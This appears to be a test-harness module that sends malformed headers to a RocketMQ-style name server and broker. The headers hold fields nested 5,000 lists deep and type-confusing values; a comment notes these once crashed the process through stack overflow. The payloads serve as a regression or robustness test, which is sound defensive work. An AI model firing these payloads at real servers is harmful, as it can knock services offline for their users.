const DEPTH = 5000

/** Writing such a value as JSON overflowed the stack, which ended the process. */
export default {
  name: 'nested-header',
  says: 'a header whose field, or remark, holds 5,000 lists in one another',
  async attack(field) {
    const nested = '['.repeat(DEPTH) + ']'.repeat(DEPTH)
    const headers = [
      `{"code":34,"extFields":{"topic":${nested}}}`,
      `{"code":34,"remark":${nested}}`,
      `{"code":34,"language":{"toString":1,"valueOf":1}}`,
      `{"code":${nested}}`,
      `{"code":34,"opaque":{"valueOf":1},"flag":{},"version":[]}`,
    ]
    for (const port of [field.namesrvPort, field.brokerPort]) {
      for (const header of headers) {
        const peer = await field.connect(port)
        await peer.write(field.rawFrame(Buffer.from(header)))
        await peer.call({ code: 105, fields: { topic: 'TBW102' } }, 2000)
        peer.destroy()
      }
    }
  },
}
